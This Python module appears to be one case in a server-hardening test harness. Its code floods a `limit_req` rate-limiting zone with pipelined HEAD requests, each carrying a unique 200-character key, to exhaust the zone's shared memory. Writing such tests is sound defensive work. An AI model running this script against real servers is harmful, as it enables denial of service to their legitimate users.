"""Requests whose keys for `limit_req` are all different, and fill its zone: 10 MB are configured
where the memory limit may be less."""

import itertools

from attack import Attack
from server_configurations import PLAIN

ATTACK = Attack(configurations=("zones",), short=("10Mi",))
# Sent together; each with a key that is as long as a session cookie.
TOGETHER = 50


async def run(target):
    keys = itertools.count()

    async def ask(_):
        reader, writer = await target.connect(PLAIN)
        try:
            for _ in range(20):
                own = (b"%0200d" % next(keys) for _ in range(TOGETHER))
                writer.write(b"".join(b"HEAD / HTTP/1.1\r\nHost: a\r\nX-Key: " + key + b"\r\n\r\n" for key in own))
                for _ in range(TOGETHER):
                    await reader.readuntil(b"\r\n\r\n")
        finally:
            writer.transport.abort()

    await target.repeat(4, ask)
    return f"{next(keys)} keys"
